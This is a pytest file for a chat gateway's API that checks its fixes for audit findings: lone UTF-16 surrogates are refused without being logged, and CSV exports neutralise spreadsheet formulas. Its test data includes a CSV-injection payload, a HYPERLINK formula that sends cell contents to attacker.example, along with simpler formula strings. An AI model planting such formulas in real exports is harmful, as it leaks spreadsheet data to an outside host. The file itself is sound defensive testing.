"""Issue #15, findings 7, 8 and 12: lone surrogates, formulas in CSV exports, and response/deployment hygiene.

Real HTTP against a gateway without a worker (SQLite and PostgreSQL); the production-configured
gateways are started here, each on a database of its own.
"""

from __future__ import annotations

import csv
import io
import logging
import time
import uuid
from collections.abc import Iterator

import httpx
import pytest

from parley_contract.logging import make_handler
from tests.gateway.admin_support import TenantKeys, new_tenant, post_message
from tests.support.stack import Stack

SURROGATE = "\\ud800"  # as it is written inside a JSON string: a lone high surrogate


def raw_json(template: str, **values: str) -> bytes:
    """A JSON body written by hand: httpx cannot encode a lone surrogate, an attacker's client can."""
    return template.format(**values).encode("ascii")


MESSAGE = (
    '{{"channel": "web", "chat_id": "{chat_id}", "user": {{"id": "{user_id}", "name": "{name}"}}, "text": "{text}"}}'
)


def message_body(**bad: str) -> bytes:
    fields = {"chat_id": "surrogate-chat", "user_id": "u1", "name": "Customer", "text": "hello", **bad}
    return raw_json(MESSAGE, **fields)


def post_raw(client: httpx.Client, path: str, body: bytes) -> httpx.Response:
    # With an Idempotency-Key, as the adapters send every message: its middleware hashes the body first.
    headers = {"Content-Type": "application/json", "Idempotency-Key": uuid.uuid4().hex}
    return client.post(path, content=body, headers=headers)


@pytest.fixture
def gateway_log() -> Iterator[io.StringIO]:
    """What the in-process gateway logs, through the handler `python -m gateway` installs (LOG_CONTENT off)."""
    stream = io.StringIO()
    handler = make_handler(json_lines=True, log_content=False, stream=stream)
    # uvicorn logs an application's exception on `uvicorn.error`, which does not reach the root here.
    loggers = [logging.getLogger(), logging.getLogger("uvicorn.error")]
    for logger in loggers:
        logger.addHandler(handler)
    yield stream
    for logger in loggers:
        logger.removeHandler(handler)


def settled(log: io.StringIO) -> str:
    """The log once the server thread is done with the request: uvicorn logs an application's
    exception after the 500 was sent, so the client can see the response first."""
    time.sleep(0.5)
    return log.getvalue()


# ---- finding 7: lone surrogates ----


@pytest.mark.parametrize(
    ("field", "loc"),
    [
        ("text", ["body", "text"]),
        ("chat_id", ["body", "chat_id"]),
        ("user_id", ["body", "user", "id"]),
        ("name", ["body", "user", "name"]),
    ],
)
def test_a_lone_surrogate_in_a_message_is_refused_with_422(
    gateway: Stack, gateway_log: io.StringIO, field: str, loc: list[str]
) -> None:
    marker = f"zq{uuid.uuid4().hex[:10]}"
    response = post_raw(gateway.client(), "/api/v1/messages", message_body(**{field: f"{marker} {SURROGATE} y"}))
    assert response.status_code == 422, response.text
    (error,) = response.json()["detail"]
    assert error["loc"] == loc
    assert "unpaired UTF-16 surrogate" in error["msg"]
    assert "input" not in error  # the undecodable input is never echoed
    assert marker not in settled(gateway_log)


def test_a_lone_surrogate_in_a_field_name_is_refused_with_422(gateway: Stack) -> None:
    body = b'{"channel": "web", "chat_id": "c", "user": {"id": "u1"}, "text": "hi", "x\\udfff": 1}'
    response = post_raw(gateway.client(), "/api/v1/messages", body)
    assert response.status_code == 422, response.text
    (error,) = response.json()["detail"]
    assert error["loc"] == ["body", "x\\udfff"] and "unpaired UTF-16 surrogate" in error["msg"]


def test_a_surrogate_pair_is_an_ordinary_character(gateway: Stack) -> None:
    """An emoji written as a JSON surrogate pair (as ensure_ascii clients send it) is accepted."""
    body = message_body(chat_id=f"emoji-{uuid.uuid4().hex[:8]}", text="thanks \\ud83d\\ude00")
    response = post_raw(gateway.client(), "/api/v1/messages", body)
    assert response.status_code == 202, response.text


def test_a_lone_surrogate_on_chat_completions_is_refused_in_openais_shape(
    gateway: Stack, gateway_log: io.StringIO
) -> None:
    marker = f"zq{uuid.uuid4().hex[:10]}"
    body = raw_json(
        '{{"model": "parley", "messages": [{{"role": "user", "content": "{text}"}}]}}', text=f"{marker} {SURROGATE}"
    )
    response = post_raw(gateway.client(), "/v1/chat/completions", body)
    assert response.status_code == 400, response.text
    error = response.json()["error"]
    assert error["type"] == "invalid_request_error"
    assert (
        error["message"] == "messages.0.content: String contains an unpaired UTF-16 surrogate; send valid Unicode text"
    )
    assert marker not in settled(gateway_log)


def test_a_deeply_nested_body_with_a_lone_surrogate_is_refused_not_crashed(gateway: Stack) -> None:
    nested = "[" * 800 + '"' + SURROGATE + '"' + "]" * 800
    body = raw_json(
        '{{"channel": "web", "chat_id": "c", "user": {{"id": "u1"}}, "text": "hi", "extra": {nested}}}', nested=nested
    )
    response = post_raw(gateway.client(), "/api/v1/messages", body)
    assert response.status_code == 422, response.text
    assert "unpaired UTF-16 surrogate" in response.json()["detail"][0]["msg"]


# ---- finding 8: formulas in CSV exports ----

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
]


def exported_rows(tenant: TenantKeys, path: str) -> list[list[str]]:
    response = tenant.admin.get(tenant.url(path), params={"format": "csv"})
    assert response.status_code == 200, response.text
    return list(csv.reader(io.StringIO(response.text, newline="")))


def test_csv_exports_defuse_cells_a_spreadsheet_would_run(gateway: Stack) -> None:
    tenant = new_tenant(gateway)
    chat_id = "=1+2"
    for text in [*FORMULAS, "a plain question = fine"]:
        post_message(tenant, text, chat_id=chat_id)
    conversation = tenant.admin.get(tenant.url("/conversations")).json()["items"][0]["conversation_id"]

    header, *rows = exported_rows(tenant, "/conversations/export")
    assert header[:3] == ["conversation_id", "channel", "chat_id"]
    assert {row[2] for row in rows} == {"'=1+2"}
    texts = [row[header.index("text")] for row in rows]
    assert sorted(texts) == sorted(["'" + formula for formula in FORMULAS] + ["a plain question = fine"])

    header, *rows = exported_rows(tenant, f"/conversations/{conversation}/export")
    assert sorted(row[header.index("text")] for row in rows) == sorted(texts)
    # JSON exports are data, not a spreadsheet: the text stays exactly as written.
    exported = tenant.admin.get(tenant.url(f"/conversations/{conversation}/export")).json()
    assert exported["chat_id"] == chat_id and FORMULAS[0] in [m["text"] for m in exported["messages"]]
